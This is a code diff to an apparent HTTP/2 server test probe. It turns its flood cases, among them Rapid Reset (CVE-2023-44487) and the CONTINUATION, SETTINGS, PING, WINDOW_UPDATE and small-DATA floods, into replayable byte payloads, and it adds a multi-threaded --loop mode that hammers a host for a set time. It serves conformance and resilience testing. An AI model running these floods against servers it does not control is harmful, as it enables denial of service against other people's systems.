@@ -7,7 +7,13 @@ the server's frames, and prints one JSON line:
 {"case": NAME, "pass": true|false, "detail": "..."}.
 
 Usage: h2probe.py HOST PORT [--tls] [--path /file] [--big /bigfile] CASE...
+       h2probe.py HOST PORT [--tls] --loop SECONDS [--threads K] FLOOD
        h2probe.py --list
+
+--loop repeats one flood on new connections for SECONDS from K threads of
+this process (an attacker as fast as one Python process) and prints the
+connections and bytes per second it achieved (scripts/experiments/
+h2-flood-cost.sh).
 Exit status: 0 when every case passed, 1 otherwise.
 
 The RFC 9113 cases cite their section; the floods expect GOAWAY with
@@ -374,54 +380,138 @@ def case_goaway_from_client(c, a):
 
 
 # ---- floods ----
+#
+# Each flood is the bytes one connection sends after its preface and SETTINGS,
+# built from a fresh HPACK encoder, so the same bytes can be replayed on every
+# new connection (`--loop`).
 
-def case_rapid_reset(c, a):
+def flood_rapid_reset(enc, a):
     """CVE-2023-44487: HEADERS then RST_STREAM, thousands of times."""
-    c.start()
-    batch = b"".join(c.headers(2 * i + 1, a.big) + frame(RST_STREAM, 0, 2 * i + 1, struct.pack(">I", 8))
-                     for i in range(5000))
-    c.send(batch)
-    return expect_goaway(c, {"ENHANCE_YOUR_CALM", "CLOSED"})
+    hdrs = [(":method", "GET"), (":scheme", "http"), (":path", a.big), (":authority", a.authority)]
+    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, enc.encode(hdrs)) +
+                    frame(RST_STREAM, 0, 2 * i + 1, struct.pack(">I", 8)) for i in range(5000))
 
 
-def case_continuation_flood(c, a):
+def flood_continuation_flood(enc, a):
     """HEADERS without END_HEADERS, then endless CONTINUATION frames."""
-    c.start()
-    c.send(frame(HEADERS, 0, 1, c.enc.encode([(":method", "GET"), (":scheme", "http"), (":path", a.path)])))
-    junk = frame(CONTINUATION, 0, 1, b"\x40\x01x\x01y" * 200)
-    for _ in range(2000):
-        if not c.send(junk):
-            break
-    return expect_goaway(c, {"ENHANCE_YOUR_CALM", "COMPRESSION_ERROR", "PROTOCOL_ERROR", "CLOSED"})
+    head = frame(HEADERS, 0, 1, enc.encode([(":method", "GET"), (":scheme", "http"), (":path", a.path)]))
+    return head + frame(CONTINUATION, 0, 1, b"\x40\x01x\x01y" * 200) * 2000
 
 
-def case_settings_flood(c, a):
+def flood_settings_flood(enc, a):
     """SETTINGS frames without end (the server must ACK each)."""
-    c.start()
-    c.send(settings(max_concurrent_streams=100) * 5000)
-    return expect_goaway(c, {"ENHANCE_YOUR_CALM", "CLOSED"})
+    return settings(max_concurrent_streams=100) * 5000
 
 
-def case_ping_flood(c, a):
+def flood_ping_flood(enc, a):
     """PING frames without end."""
-    c.start()
-    c.send(frame(PING, 0, 0, b"12345678") * 5000)
-    return expect_goaway(c, {"ENHANCE_YOUR_CALM", "CLOSED"})
+    return frame(PING, 0, 0, b"12345678") * 5000
 
 
-def case_window_update_flood(c, a):
+def flood_window_update_flood(enc, a):
     """WINDOW_UPDATE frames of 1 byte, hundreds of thousands per second."""
-    c.start()
-    c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 400000)
-    return expect_goaway(c, {"ENHANCE_YOUR_CALM", "CLOSED"})
+    return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 400000
 
 
-def case_small_data_flood(c, a):
+def flood_small_data_flood(enc, a):
     """A request body sent as thousands of 1-byte DATA frames."""
-    c.start()
-    c.send(c.headers(1, a.path, method="POST", end_stream=False))
-    c.send(frame(DATA, 0, 1, b"x") * 20000)
-    return expect_goaway(c, {"ENHANCE_YOUR_CALM", "CLOSED"})
+    hdrs = [(":method", "POST"), (":scheme", "http"), (":path", a.path), (":authority", a.authority)]
+    return frame(HEADERS, END_HEADERS, 1, enc.encode(hdrs)) + frame(DATA, 0, 1, b"x") * 20000
+
+
+FLOODS = {k[6:]: v for k, v in globals().items() if k.startswith("flood_")}
+
+# For --loop only: connect, send the preface and SETTINGS, close (what
+# reconnecting costs the server without any flood).
+LOOP_ONLY = {"connect_only": lambda enc, a: b""}
+
+
+def run_flood(name):
+    def case(c, a):
+        c.start()
+        c.send(FLOODS[name](c.enc, a))
+        codes = {"ENHANCE_YOUR_CALM", "CLOSED"}
+        if name == "continuation_flood":
+            codes |= {"COMPRESSION_ERROR", "PROTOCOL_ERROR"}
+        return expect_goaway(c, codes)
+    case.__doc__ = FLOODS[name].__doc__
+    return case
+
+
+for _name in FLOODS:
+    globals()["case_" + _name] = run_flood(_name)
+
+
+def flood_loop(host, port, a, name, seconds, conns):
+    """Repeats flood `name` for `seconds` from `conns` threads of this one
+    process: each connects, sends the flood's bytes as fast as the socket
+    takes them until the server stops reading or closes, reads until the
+    close (at most 2 s), and starts over, until `seconds` pass or SIGTERM.
+    Prints one JSON line with the connections per second it achieved and
+    the flood bytes per second the kernel took from it (offered: the server
+    reads only up to its limit)."""
+    import signal
+    import threading
+    flood = LOOP_ONLY.get(name) or FLOODS[name]
+    payload = PREFACE + settings() + flood(hpack.Encoder(), a)
+    end = time.time() + seconds
+    stop = threading.Event()
+    signal.signal(signal.SIGTERM, lambda *_: stop.set())
+    totals = {"connections": 0, "sent": 0, "goaway": 0}
+    lock = threading.Lock()
+
+    def one():
+        while time.time() < end and not stop.is_set():
+            sent = 0
+            goaway = False
+            try:
+                s = socket.create_connection((host, port), timeout=2.0)
+                if a.tls:
+                    ctx = ssl.create_default_context()
+                    ctx.check_hostname = False
+                    ctx.verify_mode = ssl.CERT_NONE
+                    ctx.set_alpn_protocols(["h2"])
+                    s = ctx.wrap_socket(s, server_hostname=host)
+            except OSError:
+                time.sleep(0.01)
+                continue
+            try:
+                view = memoryview(payload)
+                while sent < len(payload):
+                    sent += s.send(view[sent:sent + (1 << 18)])
+            except OSError:  # the server stopped reading (timeout) or closed
+                pass
+            if name == "connect_only":
+                s.settimeout(0)
+            try:
+                while True:
+                    b = s.recv(1 << 16)
+                    if not b:
+                        break
+                    goaway |= bytes([GOAWAY]) in b  # rough: a GOAWAY type byte seen
+            except OSError:
+                pass
+            s.close()
+            with lock:
+                totals["connections"] += 1
+                totals["sent"] += sent
+                totals["goaway"] += goaway
+
+    t0 = time.time()
+    threads = [threading.Thread(target=one) for _ in range(conns)]
+    for t in threads:
+        t.start()
+    while any(t.is_alive() for t in threads):
+        threads[0].join(0.05)
+        if stop.is_set():
+            for t in threads:
+                t.join()
+    took = time.time() - t0
+    print(json.dumps({"flood": name, "seconds": round(took, 3), "threads": conns,
+                      "connections": totals["connections"],
+                      "connections_per_s": round(totals["connections"] / took, 1),
+                      "offered_mb_per_s": round(totals["sent"] / took / 1e6, 2)}), flush=True)
+    return 0
 
 
 def case_slow_reader(c, a):
@@ -437,6 +527,7 @@ CASES = {k[5:]: v for k, v in globals().items() if k.startswith("case_")}
 
 
 class Args:
+    authority = "localhost"
     path = "/small.bin"
     big = "/big.bin"
     tls = False
@@ -450,6 +541,8 @@ def main(argv):
         return 0
     a = Args()
     host, port = argv[1], int(argv[2])
+    a.authority = "%s:%d" % (host, port)
+    loop, threads = None, 1
     names = []
     it = iter(argv[3:])
     for x in it:
@@ -461,10 +554,19 @@ def main(argv):
             a.big = next(it)
         elif x == "--wait":
             a.wait = float(next(it))
+        elif x == "--loop":
+            loop = float(next(it))
+        elif x == "--threads":
+            threads = int(next(it))
         elif x == "all":
             names.extend(CASES)
         else:
             names.append(x)
+    if loop is not None:
+        if len(names) != 1 or names[0] not in list(FLOODS) + list(LOOP_ONLY):
+            print("--loop takes one flood: %s" % " ".join(list(FLOODS) + list(LOOP_ONLY)), file=sys.stderr)
+            return 2
+        return flood_loop(host, port, a, names[0], loop, threads)
     failed = 0
     for n in names:
         try:
